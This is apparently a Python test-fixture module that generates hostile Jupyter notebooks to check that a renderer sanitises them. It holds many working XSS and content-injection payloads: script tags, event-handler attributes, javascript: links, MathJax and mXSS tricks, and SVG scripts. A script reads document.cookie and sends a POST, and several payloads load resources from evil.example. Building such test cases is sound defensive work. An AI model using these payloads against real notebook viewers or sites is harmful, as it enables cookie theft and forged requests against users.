"""Hostile notebooks, built in code: every way we know for notebook content to run script, draw
over the page or make a request to another host.

``hostile_notebooks()`` returns (name, NotebookNode) pairs of valid nbformat 4.5 notebooks. Unit
tests render them; a browser test can upload them and check that ``window.__pwned`` stays
unset. Needs only nbformat (no pytest, no Django).
"""

from __future__ import annotations

import base64

import nbformat
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
    new_raw_cell,
)

# What every payload tries: mark the page, read the cookie, make a state-changing request.
JS = "window.__pwned=1;window.__cookie=document.cookie;fetch('/',{method:'POST'})"
JS_ATTR = JS.replace("'", "&#39;")
PNG_1PX = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
SVG_WITH_SCRIPT = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="' + JS_ATTR + '">'
    "<script>" + JS + '</script><rect width="10" height="10"/></svg>'
)
EVIL = "https://evil.example"


def _html(html: str) -> dict:
    return new_output("display_data", data={"text/html": html, "text/plain": "<HTML>"})


def _md(name: str, source: str, **kwargs) -> tuple[str, nbformat.NotebookNode]:
    return name, new_notebook(cells=[new_markdown_cell(source, **kwargs)])


def _outputs(name: str, *outputs: dict, nb_metadata=None) -> tuple[str, nbformat.NotebookNode]:
    cell = new_code_cell("x = 1", execution_count=1, outputs=list(outputs))
    return name, new_notebook(cells=[cell], metadata=nb_metadata or {})


def hostile_notebooks() -> list[tuple[str, nbformat.NotebookNode]]:
    """All hostile cases, each a small valid notebook."""
    cases = [
        _md("markdown-script", f"# Hi\n\n<script>{JS}</script>\n\ntext"),
        _md("markdown-img-onerror", f'<img src="x" onerror="{JS_ATTR}">'),
        _md("markdown-svg-onload", f'<svg onload="{JS_ATTR}"><circle r="5"/></svg>'),
        _md("markdown-onmouseover", f'<p onmouseover="{JS_ATTR}">hover me</p>'),
        _md("markdown-javascript-link", "[click](javascript:alert(document.cookie))"),
        _md("markdown-javascript-link-html", '<a href="javascript:alert(1)">click</a>'),
        _md("markdown-entity-javascript", '<a href="jav&#x09;ascript:alert(1)">tab</a>'),
        _md("markdown-data-link", '<a href="data:text/html,<script>alert(1)</script>">d</a>'),
        _md("markdown-mathjax-href", r"Math $\href{javascript:alert(1)}{x}$ here"),
        _md("markdown-mathjax-style", r"$$\style{position:fixed;top:0;left:0}{\text{over}}$$"),
        _md("markdown-math-text-html", r"$\text{<img src=x onerror=alert(1)>}$"),
        _md("markdown-inline-svg-script", SVG_WITH_SCRIPT),
        _md("markdown-iframe", f'<iframe src="{EVIL}/" srcdoc="<script>{JS}</script>"></iframe>'),
        _md("markdown-form", '<form action="/" method="post"><input name="a"><button>go</button>'),
        _md("markdown-meta-refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}">'),
        _md("markdown-base", f'<base href="{EVIL}/">[rel](x)'),
        _md("markdown-link-stylesheet", '<link rel="stylesheet" href="//evil.example/x.css">'),
        _md(
            "markdown-style-overlay",
            "<style>body{background:url(https://evil.example/c.png)}"
            ".x{position:fixed;inset:0;z-index:99999}</style><div class='x'>overlay</div>",
        ),
        _md(
            "markdown-style-attribute",
            '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
            f'background:url({EVIL}/bg.png)">overlay</div>',
        ),
        _md("markdown-remote-image", f"![remote]({EVIL}/x.png)\n\n<img src='{EVIL}/y.png'>"),
        _md("markdown-img-srcset", f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">'),
        _md("markdown-object", f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/e">'),
        _md(
            "markdown-comment-cdata",
            f"<!--><img src=x onerror={JS_ATTR}>--> <![CDATA[><img src=x onerror=alert(1)>]]>"
            f"<!-- <script>{JS}</script> -->",
        ),
        _md("markdown-id-clash", '<div id="content">clash</div><a name="login">n</a>'),
        _md("markdown-our-classes", '<div class="ns-placeholder jp-Dialog">fake UI</div>'),
        _md(
            "markdown-malformed-attachment",
            '![a](attachment:"><script>alert(1)</script>.png)\n\n'
            '<img src="attachment:x.png&quot; onerror=&quot;alert(1)">',
            attachments={'x.png" onerror="alert(1)': {"image/png": 'AAAA" onerror="alert(1)'}},
        ),
        _outputs("html-output-script", _html(f"<b>bold</b><script>{JS}</script>")),
        _outputs("html-output-only-script", _html(f"<script>{JS}</script>")),
        _outputs("html-output-svg-animate", _html(f'<svg><animate onbegin="{JS_ATTR}"/></svg>')),
        _outputs("html-output-javascript-link", _html('<a href="javascript:alert(1)">x</a>')),
        _outputs(
            "html-output-css-url", _html(f"<div style=\"background:url('{EVIL}/t')\">x</div>")
        ),
        _outputs(
            "html-output-math-mxss",
            _html(f"<math><mtext><table><mglyph><style><img src=x onerror={JS_ATTR}>"),
        ),
        _outputs(
            "javascript-output",
            new_output("display_data", data={"application/javascript": JS}),
        ),
        _outputs(
            "svg-output-with-script",
            new_output("display_data", data={"image/svg+xml": SVG_WITH_SCRIPT}),
        ),
        _outputs(
            "image-metadata-injection",
            new_output(
                "display_data",
                data={"image/png": PNG_1PX},
                metadata={"image/png": {"width": '1" onerror="alert(1)', "height": "x"}},
            ),
        ),
        _outputs(
            "mermaid-output",
            new_output(
                "display_data",
                data={"text/vnd.mermaid": f'graph TD; A-->B; click A "javascript:{JS}"'},
            ),
        ),
        _outputs(
            "latex-output-href",
            new_output("display_data", data={"text/latex": r"$\href{javascript:alert(1)}{x}$"}),
        ),
        _outputs(
            "markdown-output-script",
            new_output("display_data", data={"text/markdown": f"<script>{JS}</script>ok"}),
        ),
        _outputs(
            "widget-view-output",
            new_output(
                "display_data",
                data={
                    "application/vnd.jupyter.widget-view+json": {
                        "model_id": "abc",
                        "version_major": 2,
                        "version_minor": 0,
                    },
                    "text/plain": "IntSlider(value=0)",
                },
            ),
            nb_metadata={"widgets": {}},
        ),
        _outputs(
            "widget-state-malformed",
            new_output(
                "display_data",
                data={"application/vnd.jupyter.widget-view+json": {"model_id": "zzz"}},
            ),
            nb_metadata={
                "widgets": {"application/vnd.jupyter.widget-state+json": {"state": "nope"}}
            },
        ),
        _outputs(
            "plotly-output",
            new_output(
                "display_data",
                data={
                    "application/vnd.plotly.v1+json": {"data": [], "layout": {}},
                    "text/html": f'<div id="p"></div><script src="{EVIL}/plotly.js"></script>',
                },
            ),
        ),
        _outputs(
            "unknown-mime-output",
            new_output("display_data", data={"application/x-evil": "<script>x</script>"}),
        ),
        _outputs(
            "stream-html",
            new_output("stream", name="stdout", text=f"<script>{JS}</script>\x1b[31mred\x1b[0m"),
        ),
    ]
    raw = new_notebook(
        cells=[
            new_raw_cell(f"<script>{JS}</script><b>raw</b>", metadata={"raw_mimetype": "text/html"})
        ]
    )
    cases.append(("raw-html-cell", raw))
    svg_attachment = base64.b64encode(SVG_WITH_SCRIPT.encode()).decode()
    cases.append(
        _md(
            "markdown-svg-attachment",
            "![svg](attachment:evil.svg)",
            attachments={"evil.svg": {"image/svg+xml": svg_attachment}},
        )
    )
    for _name, nb in cases:
        nbformat.validate(nb)
    return cases
